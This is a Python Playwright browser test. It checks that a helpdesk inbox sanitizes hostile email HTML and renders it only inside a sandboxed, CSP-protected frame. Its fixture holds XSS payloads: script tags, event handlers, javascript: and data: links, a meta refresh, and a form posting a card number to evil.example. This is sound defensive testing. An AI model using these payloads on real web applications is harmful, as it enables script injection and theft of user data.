"""A hostile email opened in the real browser: nothing in it runs, navigates or submits, and its HTML
lives only inside the sandboxed frame (never in the inbox page's own document)."""

from __future__ import annotations

import asyncio
import contextlib
import uuid

from playwright.async_api import Error as PlaywrightError
from playwright.async_api import expect

from tests.e2e.browser.conftest import Browsing, send_mail, ticket_ref

MARKER = "Formatted part 7f3a"
HOSTILE_HTML = """<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>body { background: expression(alert('css-expression')); } p { color: red; }</style>
<base href="https://evil.example/">
</head>
<body onload="alert('body-onload')">
<p>{marker}</p>
<script>alert('script'); parent.document.title = 'pwned'; top.location = 'https://evil.example/top';</script>
<img src="x" onerror="alert('img-onerror')" alt="broken">
<a href="javascript:alert('javascript-link')">javascript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">data link</a>
<a href="https://evil.example/elsewhere" target="_top">top link</a>
<svg onload="alert('svg-onload')"><circle r="5"></circle></svg>
<div style="width: expression(alert('style-expression'))">styled</div>
<form action="https://evil.example/steal" method="post">
  <input name="card" value="4242 4242 4242 4242">
  <button type="submit">Submit the form</button>
</form>
<iframe src="javascript:alert('inner-frame')"></iframe>
<object data="data:text/html,<script>alert('object')</script>"></object>
</body></html>
"""
LEFTOVERS = ("script", "[onload]", "[onerror]", "form", "meta[http-equiv]", "base", "iframe", "object", "svg[onload]",
             "a[href^='javascript:']", "a[href^='data:']", "a[target='_top']", "style")
"""What the sanitizer must have removed: the sandbox would stop most of it, but neither alone is trusted."""
NOT_SCRIPT = ("Failed to load resource", "Loading the image")
"""Console errors about a resource not loaded (an image the frame's CSP blocks, the favicon): no script
ran for them. Every other console error (a blocked or failed script, an inline handler refused by the
CSP) fails the test."""


async def test_hostile_email_html_runs_nothing_and_stays_in_the_sandboxed_frame(browsing: Browsing, served):
    subject = f"Invoice question {uuid.uuid4().hex[:8]}"
    await send_mail(served, sender="Mallory <mallory@customer.example>", subject=subject,
                    text="Plain part: please check my invoice.", html=HOSTILE_HTML.replace("{marker}", MARKER))
    ref = await ticket_ref(served, subject)
    aiko = await browsing.sign_in("aiko@example.com", next_path="/preferences")
    page, log = aiko.page, aiko.log
    log.clear()
    popups: list[str] = []
    aiko.context.on("page", lambda popup: popups.append(popup.url))

    await page.goto(f"/inbox/{ref}")
    await expect(page.get_by_text("Plain part: please check my invoice.")).to_be_visible()
    title = await page.title()

    async def nothing_ran() -> None:
        assert not log.dialogs, f"the email opened dialogs: {log.dialogs}"
        assert not log.page_errors, log.page_errors
        script_errors = [e for e in log.console_errors if not e.startswith(NOT_SCRIPT)]
        assert not script_errors, "\n".join(script_errors + log.failed_responses)
        assert [url.split("#")[0] for url in log.navigations] == [f"{served.base_url}/inbox/{ref}"], log.navigations
        assert not [url for url in popups if url.startswith(("javascript:", "data:", "https://evil.example"))], popups
        assert await page.title() == title

    async with page.expect_response(lambda r: r.url.split("?")[0].endswith("/html")) as framed:
        await page.get_by_text("Show the formatted email").click()
    policy = (await framed.value).headers.get("content-security-policy", "")
    assert "sandbox" in policy and "script-src" not in policy.replace("script-src 'none'", ""), policy
    await asyncio.sleep(1.5)  # the meta refresh asks for 0 s: time for anything that slipped through to fire
    await nothing_ran()

    frame_element = page.locator("iframe[sandbox]")
    await expect(frame_element).to_have_count(1)
    sandbox = set((await frame_element.get_attribute("sandbox") or "").split())
    assert not sandbox & {"allow-scripts", "allow-same-origin", "allow-forms", "allow-top-navigation",
                          "allow-top-navigation-by-user-activation", "allow-modals"}, sandbox
    frame = page.frame_locator("iframe[sandbox]")
    await expect(frame.get_by_text(MARKER)).to_be_visible()
    assert MARKER not in await page.evaluate("document.documentElement.outerHTML"), "email HTML inlined in the page"
    for selector in LEFTOVERS:
        assert await frame.locator(selector).count() == 0, f"{selector} survived sanitizing"

    # What a curious agent would click inside the mail: nothing of it may run, post or navigate.
    for name in ("javascript link", "data link", "Submit the form"):
        target = frame.get_by_text(name, exact=True)
        if await target.count():
            with contextlib.suppress(PlaywrightError):
                await target.first.click(timeout=2000, no_wait_after=True)
    await asyncio.sleep(1)
    await nothing_ran()
